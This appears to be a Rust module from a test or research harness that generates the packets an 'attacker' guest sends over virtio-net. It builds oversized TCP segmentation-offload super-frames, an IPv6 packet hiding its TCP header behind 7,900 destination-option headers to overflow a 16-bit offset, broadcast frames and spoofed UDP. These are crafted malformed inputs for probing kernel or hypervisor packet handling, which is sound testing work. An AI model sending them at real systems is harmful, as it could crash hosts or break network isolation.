//! What the attacker sends. A virtio-net header (VIRTIO 1.2, section 5.1.6) of 10 bytes precedes super-frames.

use super::mob::{ATTACKER, ATTACKER_IP, NEIGHBOUR, NEIGHBOUR_IP, PORT};
use etherparse::{EtherType, Ethernet2Header, IpNumber, Ipv4Header, Ipv6Header, PacketBuilder, TcpHeader};

/// Bytes of payload of a super-frame.
const PAYLOAD: usize = 60_000;
/// Extension headers of 8 bytes each in front of an IPv6 packet's TCP: the field for where that begins holds 65,535, from the
/// start of the kernel's buffer.
const EXTENSIONS: usize = 7900;
/// Bytes of the smallest frame.
const SMALLEST: usize = 60;
const ETHERNET: usize = 14;
const IPV4: usize = 20;
const IPV6: usize = 40;
const TCP: usize = 20;

/// `VIRTIO_NET_HDR_F_NEEDS_CSUM`, and the kinds of super-frames.
const NEEDS_CSUM: u8 = 1;
const TCPV4: u8 = 1;
const TCPV6: u8 = 4;

/// TCP in segments of `size`.
pub fn super_frame(size: u16) -> Vec<u8> {
    tcp(size, false)
}

/// The same, but more fragments follow.
pub fn fragment() -> Vec<u8> {
    tcp(1448, true)
}

fn tcp(size: u16, more_fragments: bool) -> Vec<u8> {
    let start = ETHERNET + IPV4;
    let mut ip = Ipv4Header { more_fragments, dont_fragment: false, ..ipv4(IpNumber::TCP, TCP + PAYLOAD) };
    ip.header_checksum = ip.calc_header_checksum();
    let mut frame = header(TCPV4, start + TCP, size, start);
    frame.extend(ethernet(NEIGHBOUR, ATTACKER, EtherType::IPV4));
    frame.extend(ip.to_bytes());
    frame.extend(TcpHeader::new(PORT, PORT, 1, 1000).to_bytes());
    frame.resize(frame.len() + PAYLOAD, 0x5a);
    frame
}

/// IPv6 whose TCP stands behind thousands of destination options.
pub fn extensions() -> Vec<u8> {
    let start = ETHERNET + IPV6 + 8 * EXTENSIONS;
    let options = IpNumber::IPV6_DESTINATION_OPTIONS;
    let ip = Ipv6Header {
        payload_length: (8 * EXTENSIONS + 2 * TCP) as u16,
        next_header: options,
        hop_limit: 64,
        ..Ipv6Header::default()
    };
    let mut frame = header(TCPV6, start + TCP, TCP as u16 - 8, start);
    frame.extend(ethernet(NEIGHBOUR, ATTACKER, EtherType::IPV6));
    frame.extend(ip.to_bytes());
    for n in 1..=EXTENSIONS {
        let next = if n == EXTENSIONS { IpNumber::TCP } else { options };
        // Of 8 bytes, with one option that fills it (RFC 8200, section 4.2: PadN).
        frame.extend([next.0, 0, 1, 4, 0, 0, 0, 0]);
    }
    frame.extend(TcpHeader::new(PORT, PORT, 1, 1000).to_bytes());
    frame.resize(frame.len() + TCP, 0x5a);
    frame
}

/// To everybody, of a type that no host answers (IEEE 802, local experimental).
pub fn broadcast(station: u8) -> Vec<u8> {
    let source = [2, 0x42, 0xac, 0x11, 0, station];
    padded(ethernet([0xff; 6], source, EtherType(0x88b5)).into())
}

/// The smallest UDP packet to the neighbour.
pub fn datagram() -> Vec<u8> {
    let mut frame = Vec::new();
    let packet = PacketBuilder::ethernet2(ATTACKER, NEIGHBOUR).ipv4(ATTACKER_IP, NEIGHBOUR_IP, 64).udp(PORT, PORT);
    // Writing to a vector cannot fail.
    let _ = packet.write(&mut frame, &[0; 18]);
    padded(frame)
}

fn padded(mut frame: Vec<u8>) -> Vec<u8> {
    frame.resize(SMALLEST, 0);
    frame
}

fn ethernet(destination: [u8; 6], source: [u8; 6], ether_type: EtherType) -> [u8; ETHERNET] {
    Ethernet2Header { source, destination, ether_type }.to_bytes()
}

fn ipv4(protocol: IpNumber, payload: usize) -> Ipv4Header {
    Ipv4Header {
        total_len: (IPV4 + payload) as u16,
        time_to_live: 64,
        protocol,
        source: ATTACKER_IP,
        destination: NEIGHBOUR_IP,
        ..Ipv4Header::default()
    }
}

/// A TCP super-frame with a partial checksum.
fn header(kind: u8, headers: usize, size: u16, start: usize) -> Vec<u8> {
    /// Of the checksum in a TCP header.
    const CHECKSUM: u16 = 16;
    let words = [headers as u16, size, start as u16, CHECKSUM];
    [NEEDS_CSUM, kind].into_iter().chain(words.into_iter().flat_map(u16::to_ne_bytes)).collect()
}
